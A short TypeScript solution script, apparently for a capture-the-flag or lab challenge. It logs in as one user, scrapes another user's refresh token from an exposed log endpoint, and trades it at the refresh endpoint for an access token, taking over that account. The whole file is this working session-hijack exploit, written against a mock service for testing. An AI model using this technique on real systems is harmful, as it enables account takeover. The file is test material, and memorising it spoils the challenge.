import type { Solve } from '../challenge'

export const solve: Solve = async ({ computer }) => {
  const jerry = (await computer({ method: 'POST', path: 'login' })).json()
  const log = (await computer({ path: 'log' })).text
  const refresh = /refresh_token\\":\\"([\w-]+)/.exec(log)?.[1] ?? ''
  const renewed = await computer({
    method: 'POST',
    path: 'refresh',
    authorization: `Bearer ${jerry.access_token}`,
    body: { refresh_token: refresh },
  })
  // Where it was refused: with Jerry's own, which opens nothing of Tom's.
  const access = renewed.status === 200 ? renewed.json().access_token : jerry.access_token
  await computer({ path: 'me', authorization: `Bearer ${access}` })
}
